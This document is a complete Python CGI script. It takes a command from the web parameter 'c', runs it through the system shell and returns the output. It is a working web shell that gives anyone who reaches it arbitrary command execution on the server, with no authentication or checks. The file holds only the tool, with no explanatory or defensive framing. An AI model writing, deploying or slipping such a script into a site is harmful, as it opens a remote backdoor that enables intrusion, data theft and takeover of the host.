#!/usr/bin/env python3
import cgi
import subprocess

form = cgi.FieldStorage()
print("Content-Type: text/plain")
print()
cmd = form.getvalue("c")
if cmd:
    print(subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout)
